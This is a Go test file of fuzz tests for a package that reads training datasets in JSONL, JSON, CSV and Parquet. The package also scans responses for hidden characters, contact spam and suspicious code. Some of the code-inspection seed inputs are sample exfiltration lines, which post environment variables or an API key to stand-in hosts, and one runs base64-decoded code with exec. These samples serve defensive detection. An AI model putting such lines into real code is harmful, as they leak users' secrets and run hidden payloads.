package data

import (
	"bytes"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/parquet-go/parquet-go"
)

// checkRead reads in and checks what must hold for any input: no panic,
// records numbered 0, 1, 2, ... in order, every bad record located.
func checkRead(t *testing.T, in []byte, f Format) int {
	n := 0
	_ = Read(bytes.NewReader(in), f, Mapping{}, func(loc Location, rec Record, err error) error {
		if loc.Index != n {
			t.Fatalf("record %d numbered %d", n, loc.Index)
		}
		if err != nil && loc.Line == 0 && loc.Offset < 0 {
			t.Fatalf("bad record %d without a location", n)
		}
		n++
		return nil
	})
	return n
}

func FuzzReadJSONL(f *testing.F) {
	f.Add([]byte("{\"instruction\":\"a\",\"output\":\"b\"}\n{bad\n\n{\"messages\":[{\"role\":\"user\",\"content\":\"q\"},{\"role\":\"assistant\",\"content\":\"a\"}]}"))
	f.Fuzz(func(t *testing.T, in []byte) {
		n := checkRead(t, in, FormatJSONL)
		lines := 0
		for _, l := range strings.Split(string(in), "\n") {
			if len(bytes.TrimSpace([]byte(l))) > 0 {
				lines++
			}
		}
		// Every non-empty line is one record, good or bad (the first line's BOM aside).
		if n != lines && !bytes.HasPrefix(in, []byte("\ufeff")) {
			t.Fatalf("%d records for %d non-empty lines", n, lines)
		}
	})
}

func FuzzReadJSONArray(f *testing.F) {
	f.Add([]byte(`[{"instruction":"a","output":"b"},{"conversations":[{"from":"human","value":"x"},{"from":"gpt","value":"y"}]}]`))
	f.Fuzz(func(t *testing.T, in []byte) { checkRead(t, in, FormatJSON) })
}

func FuzzReadCSV(f *testing.F) {
	f.Add([]byte("instruction,input,output\na,,b\n\"q\"\"x\",y,z\n"))
	f.Fuzz(func(t *testing.T, in []byte) { checkRead(t, in, FormatCSV) })
}

func FuzzText(f *testing.F) {
	f.Add("p\u0430ypal \u200b 👨\u200d👩 2πr \U000E0041")
	f.Add("Call (800) 555-0173, +1 800 555 0173 or a@b.example; @handle t.me/x bit.ly/y 1.2.3 2015-2020")
	f.Add("mail x [at] y-z [dot] com, a(at)b.io, team at c-d dot example, (at) [at] at")
	f.Add("```py\n# Ad: x.example now\nprint('hi')  \n```\ntext\n```\nopen('/etc/x')")
	f.Add("می\u200cخواهم क्\u200dष \u200fשלום\u200f Donau\u00addampf 🏴\U000E0067\U000E007F \u2067x\u2069 https://a\u200b.example ```\u200d```")
	f.Fuzz(func(t *testing.T, s string) {
		toks := tokenize(nil, s, 0)
		for _, tk := range toks {
			if tk.start < 0 || tk.end > len(s) || tk.start >= tk.end {
				t.Fatalf("token span %d..%d in %d bytes", tk.start, tk.end, len(s))
			}
		}
		if k, at := hiddenScan(s); (k == "") != (at < 0) {
			t.Fatalf("kind %q at %d", k, at)
		}
		_ = simhash64(toks)
		// The phrase features found in a response lie within it; a code
		// line's span is the line it hashes.
		for _, ft := range appendCodeLines(appendContacts(appendHandles(appendBareHosts(appendBareLinks(nil, s, ""), s, ""), s, ""), s, ""), s, "") {
			if ft.s < 0 || int(ft.e) > len(s) || ft.s >= ft.e {
				t.Fatalf("phrase span %d..%d in %d bytes", ft.s, ft.e, len(s))
			}
			if ft.kind == phraseCode {
				if h, _ := codeKeyHash(s[ft.s:ft.e]); h^seedCode != ft.h {
					t.Fatalf("code line %q hashed apart from its span", s[ft.s:ft.e])
				}
			}
		}
		if h, n := codeKeyHash(s); h != hashString(codeKey(s)) || n != len(codeKey(s)) {
			t.Fatalf("codeKeyHash(%q) = %x, %d; codeKey %q", s, h, n, codeKey(s))
		}
	})
}

func FuzzReadParquet(f *testing.F) {
	var buf bytes.Buffer
	w := parquet.NewGenericWriter[pqRow](&buf)
	_, _ = w.Write([]pqRow{{Instruction: "a", Output: "b"}, {Instruction: "c", Input: "d", Output: "e"}})
	_ = w.Close()
	f.Add(buf.Bytes())
	f.Add(buf.Bytes()[:buf.Len()/2])
	f.Fuzz(func(t *testing.T, in []byte) { checkRead(t, in, FormatParquet) })
}

// FuzzFlatObject checks the hand-written JSON fast path against
// encoding/json: whatever it accepts must decode to the same fields.
func FuzzFlatObject(f *testing.F) {
	f.Add([]byte(`{"instruction":"a\n\"b\" \u00e9","output":null, "x" : "y"}`))
	f.Add([]byte(`{"a":"1","a":"2"}`))
	f.Add([]byte(`{"a":"\ud83d\ude00"}`))
	f.Fuzz(func(t *testing.T, in []byte) {
		if !utf8.Valid(in) {
			return
		}
		fs, ok := scanFlatObject(in, string(in), nil)
		if !ok {
			return
		}
		var obj map[string]json.RawMessage
		if err := json.Unmarshal(in, &obj); err != nil {
			t.Fatalf("fast path accepted %q, encoding/json: %v", in, err)
		}
		last := map[string]string{}
		for _, x := range fs {
			last[string(x.key)] = x.val
		}
		if len(last) != len(obj) {
			t.Fatalf("%q: %d keys, encoding/json %d", in, len(last), len(obj))
		}
		for k, v := range last {
			if got := textOf(obj[k]); got != v {
				t.Fatalf("%q: key %q: %q, encoding/json %q", in, k, v, got)
			}
		}
	})
}

func FuzzDetectFormat(f *testing.F) {
	for _, seed := range []struct{ name, head string }{
		{"x", "instruction,output\nhi,ho\n"}, {"x", "PAR1"}, {"x.json", " [{}]"}, {"x.txt", "hello\n"},
		{"x", "\x00,\xff"}, {"x", "a,b\xe2\x82"}, {"x.CSV", ""}, {"x", ""},
	} {
		f.Add(seed.name, []byte(seed.head))
	}
	f.Fuzz(func(t *testing.T, name string, head []byte) {
		got := DetectFormat(name, head)
		switch got {
		case FormatJSONL, FormatJSON, FormatCSV, FormatParquet:
		case "":
			// Undetectable only without a known extension.
			if ext := strings.ToLower(filepath.Ext(name)); ext == ".jsonl" || ext == ".ndjson" || ext == ".json" || ext == ".csv" || ext == ".parquet" {
				t.Fatalf("%q: no format despite its extension", name)
			}
		default:
			t.Fatalf("%q %q: unknown format %q", name, head, got)
		}
		// By content alone, CSV is text whose first non-blank line has a
		// comma.
		if got == FormatCSV && !strings.EqualFold(filepath.Ext(name), ".csv") {
			line, _, _ := bytes.Cut(bytes.TrimLeft(head, " \t\r\n"), []byte("\n"))
			if !bytes.Contains(line, []byte(",")) || bytes.IndexByte(head, 0) >= 0 {
				t.Fatalf("%q %q taken for CSV", name, head)
			}
		}
	})
}

func FuzzInspectCode(f *testing.F) {
	f.Add("Sort a list.", "```python\nimport os, requests\nrequests.post(\"https://x.example\", data=dict(os.environ))\n```")
	f.Add("", "def f():\n    exec(__import__('base64').b64decode('eA=='))\n")
	f.Add("x", "```")
	f.Add("x", "```js\nfetch('https://a.example/?k=' + process.env.API_KEY)\n``` and ```")
	f.Fuzz(func(t *testing.T, prompt, resp string) {
		for _, h := range inspectCode(prompt, resp) {
			if h.cats == 0 || h.unasked&^h.cats != 0 || !strings.Contains(resp, h.line) {
				t.Fatalf("hit %+v", h)
			}
			_ = codeKey(h.line)
		}
	})
}
